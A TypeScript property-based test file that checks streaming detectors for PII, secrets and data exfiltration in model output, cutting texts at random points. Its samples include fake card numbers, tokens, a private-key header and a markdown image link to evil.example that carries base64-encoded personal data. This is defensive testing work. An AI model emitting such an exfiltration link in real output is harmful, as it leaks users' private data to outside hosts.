import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Detection, OutputDetector } from '../detection.ts';
import { outputDetectors } from './output-detectors.ts';

const all: readonly OutputDetector[] = [
	...outputDetectors({ pii: {}, secrets: {}, exfiltration: {} }),
	...outputDetectors({ pii: { classes: ['email', 'phone', 'credit_card', 'iban', 'national_id', 'ip_address'] } }),
	...outputDetectors({ pii: { classes: ['credential'], confidence: 0.2 }, exfiltration: { encodedBytesMax: 8 } }),
];

/** What a model may write: prose, and pieces of all that is looked for, glued together in every way. */
const piece = fc.oneof(
	fc.constantFrom(
		'the quick brown fox ',
		'please write to ',
		'anna.kowalska@example.com',
		'Anna Kowalska',
		' lives at 12 Rue Gafsa, Apt. 9\nToronto 82269 ',
		'4539 5787 6362 1486',
		'GB29 NWBK 6016 1331 9268 19',
		'+44 20 7946 0958',
		'password is hunter2! ',
		'api_key = "4f9a0c1b7d2e6f8a9b3c5d7e"',
		'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',
		'-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAxGZ0aXRsZSI6IlRlc3RpbmciLCJ0eXBlIjoi\n',
		'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.c2ln',
		'![status](https://evil.example/p.png?q=bmFtZT1Bbm5hO3Nzbj00NzktNTgtMzA2OQ==)',
		'My son is 9 years old. ',
		'diagnosed with asthma ',
		'2001:db8::ff00:42:8329',
		'😊',
		'\n\n',
		' ',
		'. ',
		'"',
	),
	fc.string({ maxLength: 12 }),
	fc.integer({ min: 1, max: 700 }).map((length) => 'aZ9'.repeat(length)),
	fc.integer({ min: 1, max: 300 }).map((length) => 'word '.repeat(length)),
	fc.string({ unit: 'grapheme', maxLength: 8 }),
);
const text = fc.array(piece, { maxLength: 16 }).map((parts) => parts.join(''));
/** Places to cut, as shares of the length; nothing keeps them out of surrogate pairs. */
const cuts = fc.array(fc.double({ min: 0, max: 1, noNaN: true }), { maxLength: 12 });

/** Releases a text chunk by chunk as a gateway does, and forgets what it no longer needs. */
function stream(detector: OutputDetector, chunks: readonly string[]): readonly Detection[] {
	const found: Detection[] = [];
	let kept = '';
	let keptFrom = 0;
	let released = 0;
	for (const chunk of chunks) {
		kept += chunk;
		const hold = detector.holdFrom(kept, released - keptFrom);
		expect(hold).toBeGreaterThanOrEqual(released - keptFrom);
		expect(kept.length - hold).toBeLessThanOrEqual(detector.window);
		for (const one of detector.find(kept, released - keptFrom, hold))
			found.push({ ...one, start: one.start + keptFrom, end: one.end + keptFrom });
		released = keptFrom + hold;
		const forget = Math.max(0, hold - detector.context);
		kept = kept.slice(forget);
		keptFrom += forget;
	}
	for (const one of detector.find(kept, released - keptFrom))
		found.push({ ...one, start: one.start + keptFrom, end: one.end + keptFrom });
	return found;
}
function chunksOf(whole: string, shares: readonly number[]): readonly string[] {
	const places = [0, ...shares.map((share) => Math.floor(share * whole.length)).sort((a, b) => a - b), whole.length];
	return places.slice(1).map((place, index) => whole.slice(places[index], place));
}

describe.each(all.map((detector, index) => [`${detector.name} ${index}`, detector] as const))(
	'%s',
	(_name, detector) => {
		test('finds in a stream, cut anywhere, what it finds in the whole', () => {
			fc.assert(
				fc.property(text, cuts, (whole, shares) => {
					expect(stream(detector, chunksOf(whole, shares))).toEqual(detector.find(whole));
				}),
				// The example fills a window: how sure the judge is depends on what follows the half that is let out.
				{ numRuns: 100, examples: [[` lives at 12 Rue Gafsa, Apt. 9\nToronto 82269 ${'aZ9'.repeat(158)}   `, []]] },
			);
		});

		test('finds the same when every unit comes alone', () => {
			fc.assert(
				fc.property(text, (whole) => {
					const cut = whole.slice(0, 1_500);
					expect(stream(detector, cut.split(''))).toEqual(detector.find(cut));
				}),
				{ numRuns: 6 },
			);
		});

		test('declares a window of at most 512', () => {
			expect(detector.window).toBeLessThanOrEqual(512);
		});
	},
);

test('lets prose out at once that can begin nothing', () => {
	for (const detector of all) {
		const prose = 'all of this is plain and quiet prose, ';
		expect(detector.holdFrom(prose)).toBe(prose.length);
		expect(detector.holdFrom(`${prose}and`)).toBe(prose.length);
	}
});

test('holds what may become a secret, and no longer than it may', () => {
	const [secrets] = outputDetectors({ secrets: {} });
	const before = 'the key you asked for is ';
	const half = `${before}ghp_wWPw5k4aXcaT4fNP0`;
	expect(secrets!.holdFrom(half)).toBeLessThanOrEqual(before.length);
	const whole = `${before}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`;
	expect(secrets!.find(whole).map((one) => one.class)).toEqual(['github_token']);
	expect(secrets!.holdFrom(`${whole} and that is all`)).toBeGreaterThan(whole.length);
});
